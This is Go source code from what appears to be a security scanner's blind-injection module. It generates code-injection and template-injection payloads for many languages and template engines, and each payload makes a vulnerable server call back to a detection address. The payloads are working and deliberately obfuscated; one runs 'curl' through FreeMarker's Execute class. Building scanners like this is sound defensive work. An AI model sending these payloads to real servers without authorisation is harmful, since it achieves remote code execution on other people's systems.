package blindinjection

import (
	"fmt"
	"strings"

	"merlon/internal/engine/dast/activescan"
)

// A payload is what is tried with one request.
type payload struct {
	languages string // separated by spaces
	template  bool
	// write returns the payload for a value, and where in it what is asked for stands.
	write func(value string, bait func() activescan.OASTPayload) (string, []part)
}

// A part of a payload asks for an address of its own.
type part struct {
	bait  activescan.OASTPayload
	place string
}

// suitsLanguages reports whether the payload is for one of the languages; without any it may be.
func (p payload) suitsLanguages(spoken map[string]bool) bool {
	if len(spoken) == 0 {
		return p.languages != "dotnet"
	}
	for l := range strings.FieldsSeq(p.languages) {
		if spoken[l] {
			return true
		}
	}
	return false
}

// A call writes an expression that asks for an address.
type call func(address string) string

// cut is where programs cut addresses in two, which they join: what only looks for links in
// texts, and asks for them, sees none.
const cut = len("ht")

// The calls of languages. Those of programs have no quotation marks in them, so that they
// stand in every kind of string.
func python(address string) string {
	return fmt.Sprintf("__import__(%s).request.urlopen(%s,None,3)", pythonText("urllib.request"), pythonText(address))
}

// pythonText writes a text as the number that its bytes are, most significant first.
func pythonText(text string) string {
	return fmt.Sprintf("(0x%x).to_bytes(%d,*dict(big=1)).decode()", text, len(text))
}

// node asks by the global object that the function of functions knows, which is the outer
// one where a program runs in a context of its own. The source of a regular expression is
// a text; the backslashes in it are slashes for who reads addresses. What fails is caught: nothing else
// would, and end the process.
func node(address string) string {
	literal := func(s string) string { return "/" + strings.ReplaceAll(s, "/", `\/`) + "/.source" }
	at := literal(address)
	return "(g=>g.fetch?g.fetch(" + at + ").catch(x=>x):g.process.mainModule.require(/http/.source).get(" + at +
		").on(/error/.source,x=>x))" +
		"((this&&this.constructor||Object).constructor(/return this/.source)())"
}

// ruby is an expression of Ruby that asks the address. No quotes are in it, and the
// name of the host stands in two parts, so that nothing that merely follows addresses
// asks it.
func ruby(address string) string {
	return "(require(%q(open-uri));URI.open(%q(" + address[:cut] + ")+%q(" + address[cut:] + "),read_timeout: 3).read)"
}

// perl is an expression of Perl that asks the address, with the same care.
func perl(address string) string {
	return "(require HTTP::Tiny)&&HTTP::Tiny->new->get(q(" + address[:cut] + ").q(" + address[cut:] + "))"
}

// php is an expression of PHP that asks the address, which is written in numbers of
// characters.
func php(address string) string {
	var codes []string
	for _, c := range []byte(address) {
		codes = append(codes, fmt.Sprintf("chr(%d)", c))
	}
	return "@file_get_contents(" + strings.Join(codes, ".") + ")"
}

// java is an expression of Java that most of its expression languages take as well.
func java(quote string) call {
	return func(address string) string {
		return "new java.net.URL(" + quote + address[:cut] + quote + "+" + quote + address[cut:] + quote +
			").openStream()"
	}
}

// polyglotProgram writes a program that runs wherever the value stands: by itself, between
// single, or between double quotes. What stands elsewhere is text then.
//
//	C+'+C+'+"+C+"
func polyglotProgram(c call, join string) func(string, func() activescan.OASTPayload) (string, []part) {
	return func(value string, bait func() activescan.OASTPayload) (string, []part) {
		parts := []part{{bait(), "as an expression"}, {bait(), "behind a string"}, {bait(), "behind a string in " +
			"double quotes"}}
		text := c(parts[0].bait.URLWithHostName()) + join + "'" + join + c(parts[1].bait.URLWithHostName()) + join +
			"'" + join + `"` +
			join + c(parts[2].bait.URLWithHostName()) + join + `"`
		if strings.Contains(value, ";") { // statements
			text += ";"
		}
		return text, parts
	}
}

// quotedExpressions are expressions that need quotes themselves: by itself and in a string, or in a
// string of double quotes.
func quotedExpressions(_ string, bait func() activescan.OASTPayload) (string, []part) {
	parts := []part{{bait(), "as an expression"}, {bait(), "behind a string"}}
	c := java(`"`)
	return c(parts[0].bait.URLWithHostName()) + "+'+" + c(parts[1].bait.URLWithHostName()) + "+'", parts
}

// doubly ends a string in double quotes with a program of Java.
func doubly(value string, bait func() activescan.OASTPayload) (string, []part) {
	b := bait()
	return value + `"+` + java("'")(b.URLWithHostName()) + `+"`, []part{{b, "behind a string in double quotes"}}
}

// A tag is an expression between the signs of an engine of templates.
type tag struct {
	engines   string
	open, end string
	call      call
}

// templateTags writes a value with tags of several engines, none of which takes those of another
// one for its own.
func templateTags(list ...tag) func(string, func() activescan.OASTPayload) (string, []part) {
	return func(value string, bait func() activescan.OASTPayload) (string, []part) {
		text := value
		var parts []part
		for _, t := range list {
			b := bait()
			text += " " + t.open + t.call(b.URLWithHostName()) + t.end
			parts = append(parts, part{b, "in the form of " + t.engines})
		}
		return text, parts
	}
}

// formatCall writes a call by a format, with the two parts of the address in it.
func formatCall(format string) call {
	return func(address string) string {
		return strings.NewReplacer("HEAD", address[:cut], "TAIL", address[cut:]).Replace(format)
	}
}

// payloads are the programs, in the order in which they are sent. One writes several
// forms at once, to save requests.
var payloads = []payload{
	{languages: "python", write: polyglotProgram(python, "+")},
	{languages: "node", write: polyglotProgram(node, "+")},
	{languages: "ruby", write: polyglotProgram(ruby, "+")},
	{languages: "php", write: polyglotProgram(php, ".")},
	{languages: "perl", write: polyglotProgram(perl, ".")},
	{languages: "java", write: quotedExpressions},
	{languages: "java", write: doubly},
	{languages: "python ruby", template: true, write: templateTags(
		tag{"Jinja2", "{{", "}}",
			formatCall(`lipsum.__globals__.__builtins__.__import__("urllib.request").request.urlopen("HEAD"~"TAIL",None,3)`)},
		tag{"Mako, Chameleon", "${", "}", python}, tag{"Slim, Haml", "#{", "}", ruby})},
	{languages: "node", template: true, write: templateTags(
		tag{"Nunjucks", "{{", "}}", func(a string) string {
			return `range.constructor("return ` + strings.ReplaceAll(node(a), `\`, `\\`) + `")()`
		}},
		tag{"EJS, Eta, lodash", "<%=", "%>", node}, tag{"strings of JavaScript, lodash", "${", "}", node},
		tag{"Pug", "#{", "}", node})},
	{languages: "php ruby java", template: true, write: templateTags(
		tag{"Twig", "{{", "}}", formatCall(`['HEAD'~'TAIL']|map('file_get_contents')|join`)},
		tag{"ERB", "<%=", "%>", ruby},
		tag{"Velocity", "#set($e='')", "",
			formatCall(`$e.class.forName('java.net.URL').getConstructor($e.class).newInstance("HEAD$!{e}TAIL").openStream()`)},
		tag{"FreeMarker", "${", "}",
			formatCall(`'freemarker.template.utility.Execute'?new()('curl -m 3 HEAD'+'TAIL')`)})},
	{languages: "python java", template: true, write: templateTags(
		tag{"Tornado", "{{", "}}", python}, tag{"MVEL", "@{", "}", java("'")}, tag{"Groovy, expressions of JSP, " +
			"Thymeleaf", "${", "}", java("'")}, tag{"Spring", "#{", "}", java("'")})},
	{languages: "php perl", template: true,
		write: templateTags(tag{"Smarty", "{", "}", formatCall(`fetch file="HEAD{''}TAIL"`)},
			tag{"Mojolicious", "<%=", "%>", perl})},
	{languages: "dotnet", template: true,
		write: templateTags(tag{"Razor", "@(", ")",
			formatCall(`new System.Net.WebClient().DownloadString("HEAD"+"TAIL")`)})},
}
